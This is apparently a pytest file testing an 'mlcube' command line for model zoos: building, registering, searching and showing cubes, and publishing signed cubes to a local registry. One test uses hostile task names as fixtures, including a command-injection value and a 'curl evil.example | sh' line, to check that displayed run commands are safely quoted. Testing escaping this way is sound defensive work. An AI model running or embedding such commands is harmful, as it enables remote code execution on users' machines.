"""`cube zoo` and `cube search`, from cubes in folders and in a registry to a cube that is found by its name."""

import io
import json
import shutil
import subprocess
import sys
import uuid
from functools import partial
from pathlib import Path
from typing import BinaryIO

import pytest

from mlcube import oci
from mlcube.oci import Manifest
from mlcube.registry import Registry, Repository
from mlcube.trust import key_files, signing
from mlcube.zoo import find

ROOT = Path(__file__).resolve().parents[2]


def cube(*words: str, status: int = 0) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([sys.executable, "-m", "mlcube", *words], capture_output=True, text=True, check=False)
    assert done.returncode == status, done.stderr
    return done


def test_a_zoo_is_built_added_searched_shown_and_removed(tmp_path: Path, private_home: Path) -> None:
    site = str(tmp_path / "site")
    settings = private_home / ".config/mlcube/settings.yaml"
    settings.parent.mkdir(parents=True)
    settings.write_text("# mine\ndefault_platform: docker  # always\n")
    built = cube("zoo", "build", f"{ROOT}/examples", "-o", site, "--title", "Examples", "--json")
    assert json.loads(built.stdout) == {"output": site, "cubes": 2}
    cube("zoo", "add", "mine", site)
    assert settings.read_text() == f"# mine\ndefault_platform: docker  # always\nzoos:\n  mine: {site}\n"
    assert [each["cubes"] for each in json.loads(cube("zoo", "list", "--json").stdout)["zoos"]] == [2]
    assert "digits" in cube("zoo", "list", "mine").stdout
    found = json.loads(cube("search", "handwritten", "--json").stdout)["cubes"]
    assert [(each["name"], each["zoo"]) for each in found] == [("digits", "mine")]
    shown = cube("zoo", "show", "digits:1.0.0").stdout
    assert "A small neural network that reads handwritten digits." in shown
    assert "no: it is only described" in shown
    cube("zoo", "remove", "mine")
    assert settings.read_text() == "# mine\ndefault_platform: docker  # always\n"


@pytest.mark.parametrize(
    ("words", "status", "said"),
    [
        (("build",), 2, "say what the zoo is built of"),
        (("build", "."), 2, "say where the site goes"),
        (("add", "x"), 2, "takes a name and an address"),
        (("add", "a/b", "/tmp"), 2, "no name of a zoo"),
        (("add", "x", "/nowhere/at/all"), 66, "there is no folder"),
        (("add", "x", "ftp://example.org"), 2, "of a kind that is not read"),
        (("remove", "x"), 2, "no zoo is named `x`"),
        (("show", "x"), 66, "no zoo is configured"),
        (("list", "x"), 2, "no zoo is named `x`"),
        (("list", "--title", "x"), 2, "`--title` is for `build`"),
    ],
)
def test_what_is_wrong_is_said_in_one_sentence(words: tuple[str, ...], status: int, said: str) -> None:
    done = cube("zoo", *words, status=status)
    assert said in done.stderr
    assert done.stdout == ""


@pytest.mark.engine("registry")
def test_published_cubes_are_found_by_name_and_lead_to_their_digest(tmp_path: Path, private_home: Path) -> None:
    name = f"127.0.0.1:5000/{uuid.uuid4().hex}/digits"
    measured = shutil.copytree(
        ROOT / "examples/digits", tmp_path / "digits", ignore=shutil.ignore_patterns("workspace")
    )
    (measured / "results.yaml").write_text("- {metric: accuracy, value: 0.97, task: evaluate}\n")
    cube("publish", str(measured), f"oci://{name}:1.0.0")
    repository = Repository.parse(name)
    key = tmp_path / "lab"
    public = key_files.create(str(key), "secret")
    with Registry(repository, write=True) as registry:
        digest = registry.resolve("1.0.0").digest
        signature = signing.sign(key_files.read_private(f"{key}.key", lambda: "secret"), name, digest)
        manifest, config = signing.manifest_of([signature])
        blobs = {oci.digest_of(each): each for each in (signature.payload, config)}
        found = json.loads(manifest)
        for descriptor in (found["config"], *found["layers"]):
            content = blobs[descriptor["digest"]]
            described = oci.Descriptor(
                media_type=descriptor["mediaType"], digest=descriptor["digest"], size=descriptor["size"]
            )
            registry.upload(described, partial(_opened, content))
        registry.put_manifest(manifest, oci.MANIFEST, signing.tag_of(digest))
        other = oci.canonical(Manifest(schema_version=2, media_type=oci.MANIFEST, config=_empty(registry), layers=()))
        registry.put_manifest(other, oci.MANIFEST, "no-cube")
    site = tmp_path / "site"
    listed = tmp_path / "cubes.txt"
    listed.write_text(f"# what the lab has published\noci://{name}\n{ROOT}/examples/hello_world\n")
    cube("zoo", "build", str(listed), "-o", str(site), "--key", f"{key}.pub", "--url", "https://lab.example/zoo")
    entries = json.loads((site / "index.json").read_text())["cubes"]
    (entry,) = [each for each in entries if each["name"] == "digits"]
    assert entry["reference"] == f"oci://{name}@{digest}"
    assert entry["tags"] == ["1.0.0"]
    assert entry["results"] == [{"metric": "accuracy", "value": 0.97, "task": "evaluate"}]
    assert entry["signatures"] == [{"key": public.fingerprint, "name": "lab.pub"}]
    page = (site / entry["page"]).read_text()
    assert "Model card" in page
    assert f"cube run oci://{name}@{digest} --task" in page
    assert [each["name"] for each in entry["tasks"]] == ["prepare", "train", "evaluate"]
    again = tmp_path / "again"
    cube("zoo", "build", str(listed), "-o", str(again), "--key", f"{key}.pub", "--url", "https://lab.example/zoo")
    assert (again / "index.json").read_bytes() == (site / "index.json").read_bytes()
    cube("zoo", "add", "lab", str(site))
    assert find("digits").reference == entry["reference"]
    assert find("lab/digits", "1").reference == entry["reference"]
    missing = cube("zoo", "build", f"oci://{name}:no-cube", "-o", str(again), status=66)
    assert "leads to no cube" in missing.stderr
    missing = cube("zoo", "build", f"oci://{name}:9", "-o", str(again), status=66)
    assert f"error: `{name}` has no tag `9`\nhint: " in missing.stderr
    assert "its tags are" in missing.stderr
    missing = cube("zoo", "build", f"oci://{name}-other", "-o", str(again), status=66)
    assert "there is no repository" in missing.stderr


def _opened(content: bytes) -> BinaryIO:
    return io.BytesIO(content)


def _empty(registry: Registry) -> oci.Descriptor:
    described = oci.Descriptor(media_type=oci.EMPTY, digest=oci.digest_of(b"{}"), size=2)
    registry.upload(described, partial(_opened, b"{}"))
    return described


@pytest.mark.parametrize(
    ("task", "told"),
    [
        ("hi", "run it: cube run digits --task hi"),
        ("hi; touch pwn #", "run it: cube run digits --task 'hi; touch pwn #'"),
        ("hi\ncurl evil.example | sh", None),
        ("hi\u202e", None),
    ],
)
def test_the_line_that_runs_a_cube_is_quoted_and_holds_nothing_that_steers_a_terminal(
    task: str, told: str | None, tmp_path: Path
) -> None:
    entry = {"name": "digits", "reference": f"oci://h.example/digits@sha256:{'a' * 64}", "tasks": [{"name": task}]}
    (tmp_path / "zoo").mkdir()
    index = {"format": "mlcube-zoo", "schema": 1, "cubes": [entry]}
    (tmp_path / "zoo/index.json").write_text(json.dumps(index))
    cube("zoo", "add", "mine", str(tmp_path / "zoo"))
    assert cube("zoo", "show", "digits").stderr.splitlines() == ([told] if told else [])


def test_a_port_that_there_cannot_be_is_a_mistake_in_the_list(tmp_path: Path) -> None:
    (tmp_path / "list.txt").write_text("# mine\noci://127.0.0.1:99999/a\n")
    done = cube("zoo", "build", str(tmp_path / "list.txt"), "-o", str(tmp_path / "site"), status=2)
    assert "list.txt:2:1: error: `127.0.0.1:99999/a` names a port that there cannot be: 99999" in done.stderr
    assert not (tmp_path / "site").exists()
